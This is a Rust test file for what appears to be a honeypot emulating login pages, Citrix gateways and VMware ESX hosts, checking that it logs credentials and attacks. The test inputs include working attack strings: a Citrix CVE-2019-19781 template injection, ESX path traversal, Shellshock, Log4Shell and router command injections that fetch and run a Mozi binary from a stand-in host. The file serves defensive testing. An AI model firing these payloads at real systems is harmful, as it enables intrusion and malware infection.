//! The login page, Citrix and VMware.

use super::*;

#[test]
fn the_login_page_takes_credentials_and_lets_in_what_the_policy_says() {
    let form = post("/login", "application/x-www-form-urlencoded", "username=admin&password=p%40ss");
    let refused = ask("http", "credentials = 'reject-all'", &form);
    assert_eq!(answers(&refused)[0].0, 200);
    assert!(answers(&refused)[0].2.contains("Invalid username or password"));
    let event = refused.the_event("login");
    assert_eq!((&event.fields["username"], &event.fields["password"]), (&"admin".into(), &"p@ss".into()));
    let accepted = ask("http", "credentials = 'accept-all'", &form);
    let (status, head, _) = answers(&accepted).remove(0);
    assert_eq!(status, 302);
    let cookie = head.lines().find_map(|line| line.strip_prefix("Set-Cookie: ")).unwrap().split(';').next().unwrap();
    let inside = ask("http", "", format!("GET /dashboard HTTP/1.1\r\nHost: x\r\nCookie: {cookie}\r\n\r\n"));
    assert_eq!(answers(&inside)[0].0, 200);
    assert_eq!(get("http", "/dashboard").0, 302);
}

#[test]
fn logins_to_what_there_is_not_are_recorded_as_refused() {
    let form = "application/x-www-form-urlencoded";
    for (path, kind, body) in [
        ("/wp-login.php", form, "log=admin&pwd=x&wp-submit=Log+In"),
        ("/phpmyadmin/index.php", form, "pma_username=admin&pma_password=x&server=1"),
        (
            "/xmlrpc.php",
            "text/xml",
            "<methodCall><methodName>wp.getUsersBlogs</methodName><value>admin</value><value>x</value></methodCall>",
        ),
    ] {
        let outcome = ask("http", NGINX, post(path, kind, body));
        assert_eq!(answers(&outcome)[0].0, 404, "{path}");
        let login = &outcome.the_event("login").fields;
        assert_eq!(
            (&login["username"], &login["password"], &login["success"]),
            (&"admin".into(), &"x".into(), &false.into())
        );
    }
}

#[test]
fn basic_credentials_are_recorded_wherever_they_come() {
    let request = |path| format!("GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Basic YWRtaW46eA==\r\n\r\n");
    for (path, status) in [("/admin/", 401), ("/manager/html", 404), ("/ws/v1/cluster", 200)] {
        let outcome = ask("http", "credentials = 'reject-all'", request(path));
        assert_eq!(answers(&outcome)[0].0, status, "{path}");
        assert_eq!(outcome.the_event("login").fields["username"], "admin");
    }
    assert_eq!(answers(&ask("http", "credentials = 'accept-all'", request("/admin/")))[0].0, 200);
}

#[test]
fn citrix_gives_the_file_that_scanners_look_for_by_every_path() {
    for path in ["/vpn/../vpns/cfg/smb.conf", "/vpns/cfg/smb.conf", "/vpn/%2e%2e/vpns/cfg/smb.conf"] {
        let outcome = ask("http", "", format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n"));
        let (status, _, body) = answers(&outcome).remove(0);
        assert!(status == 200 && body.contains("[global]") && body.contains("lmhosts"), "{path}");
        assert_eq!(outcome.the_event("request").fields["decoded"]["vulnerability"], "CVE-2019-19781");
    }
    let exploit = "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\r\nHost: x\r\nNSC_USER: ../../../netscaler/portal/templates/a\r\nNSC_NONCE: b\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 61\r\n\r\nurl=http://x&title=[%25+template.new('BLOCK'%3d'print+`id`')%25]&desc=d";
    let exploit = exploit
        .replace("Content-Length: 61", &format!("Content-Length: {}", exploit.split("\r\n\r\n").nth(1).unwrap().len()));
    let outcome = ask("http", "", exploit);
    assert_eq!(outcome.the_event("request").fields["decoded"]["nsc_user"], "../../../netscaler/portal/templates/a");
    assert!(outcome.the_event("command").fields["command"].as_str().unwrap().contains("print `id`"));
    // What nmap's service probes tell the gateway by.
    let home = text(&ask("http", "site = 'citrix'", "GET / HTTP/1.1\r\nHost: x\r\n\r\n"));
    assert!(
        home.starts_with("HTTP/1.1 302 Object Moved\r\nLocation: /vpn/index.html\r\nSet-Cookie:NSC_AAAC="),
        "{home}"
    );
}

#[test]
fn vmware_probes_are_recorded_and_never_dialled() {
    let body = "a b c d e f g h i 192.0.2.9 4444 k";
    let outcome = ask("http", "", post("/hyper/send", "text/plain", body));
    assert_eq!(outcome.the_event("request").fields["decoded"]["callback"], "192.0.2.9:4444");
    let soap = "<soap:Envelope><soap:Body><RetrieveServiceContent xmlns=\"urn:internalvim25\"><_this xsi:type=\"x\">ServiceInstance</_this></RetrieveServiceContent></soap:Body></soap:Envelope>";
    let outcome = ask("http", "", post("/sdk", "text/xml", soap));
    assert!(answers(&outcome)[0].2.contains("<name>VMware ESX</name>"));
    assert_eq!(outcome.the_event("request").fields["decoded"]["soap_method"], "RetrieveServiceContent");
}

#[test]
fn an_esx_host_answers_soap_and_the_web_in_its_own_words() {
    let soap = |method: &str| {
        let body = format!(
            "<soapenv:Body><{method} xmlns=\"urn:vim25\"><_this type=\"ServiceInstance\">ServiceInstance</_this></{method}></soapenv:Body>"
        );
        answers(&ask("http", "site = 'vmware'", post("/sdk", "text/xml", &body))).remove(0)
    };
    assert!(soap("Login").2.contains("<InvalidLoginFault xmlns=\"urn:vim25\" xsi:type=\"InvalidLogin\">"));
    assert!(soap("CurrentTime").2.contains("<CurrentTimeResponse xmlns=\"urn:vim25\"><returnval>20"));
    let refused = soap("QueryOptions").2;
    assert!(refused.contains("<object type=\"ServiceInstance\">ServiceInstance</object>"), "{refused}");
    // What nmap's service probes tell ESX by.
    let (_, head, _) = answers(&ask("http", "site = 'vmware'", "GET / HTTP/1.0\r\n\r\n")).remove(0);
    let names: Vec<&str> = head.lines().filter_map(|line| line.split(": ").next()).collect();
    assert_eq!(
        names,
        ["HTTP/1.1 301 Moved Permanently", "Date", "Location", "Connection", "Content-Type", "Content-Length"]
    );
}

#[test]
fn the_traversal_of_esx_gives_the_inventory_by_either_spelling() {
    for climb in ["/..".repeat(6), "/%2E%2E".repeat(6)] {
        let request = format!("GET /sdk{climb}/etc/vmware/hostd/vmInventory.xml HTTP/1.1\r\nHost: x\r\n\r\n");
        let outcome = ask("http", "", request);
        let body = &answers(&outcome)[0].2;
        assert!(body.contains("<ConfigRoot>") && body.contains("</vmxCfgPath>"), "{body}");
        assert_eq!(outcome.the_event("request").fields["decoded"]["vulnerability"], "CVE-2009-3733");
    }
}

#[test]
fn what_injected_commands_would_fetch_is_recorded_and_the_request_whole() {
    let query = "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://192.0.2.9/Mozi.m+-O+/tmp/n;sh+/tmp/n";
    let form = post(
        "/GponForm/diag_Form?images/",
        "application/x-www-form-urlencoded",
        "dest_host=`wget+http://192.0.2.9/Mozi.m`;",
    );
    let shellshock = "GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :;}; /bin/sh -c \"curl http://192.0.2.9/Mozi.m\"\r\n\r\n";
    let traversal = post("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "text/plain", "echo;wget 192.0.2.9/Mozi.m;id");
    let requests = [&format!("GET {query} HTTP/1.1\r\nHost: x\r\n\r\n"), &form, shellshock, &traversal];
    for settings in [NGINX, APACHE] {
        for (request, status) in requests.iter().zip([404, 404, 404, 400]) {
            let outcome = ask("http", settings, request);
            let urls: Vec<&str> = outcome.downloads.iter().map(|download| download.url.as_str()).collect();
            assert_eq!(urls, ["http://192.0.2.9/Mozi.m"], "{request}");
            assert_eq!(outcome.the_event("download").fields["url"], "http://192.0.2.9/Mozi.m");
            assert_eq!(outcome.the_event("request").fields["status"], status, "{request}");
        }
    }
    // Blanks in a path make it no request to Apache; what it names is recorded all the same.
    let broken = ask("http", APACHE, "GET /board.cgi?cmd=cd /tmp;wget http://192.0.2.9/x HTTP/1.1\r\nHost: x\r\n\r\n");
    assert_eq!(answers(&broken)[0].0, 400);
    assert_eq!(broken.the_event("download").fields["url"], "http://192.0.2.9/x");
    let lookup = ask("http", "", "GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://192.0.2.9:1389/a}\r\n\r\n");
    assert_eq!(lookup.the_event("download").fields["tool"], "jndi");
    assert!(ask("http", "", "GET /?see=http://192.0.2.9/ HTTP/1.1\r\nHost: x\r\n\r\n").downloads.is_empty());
}
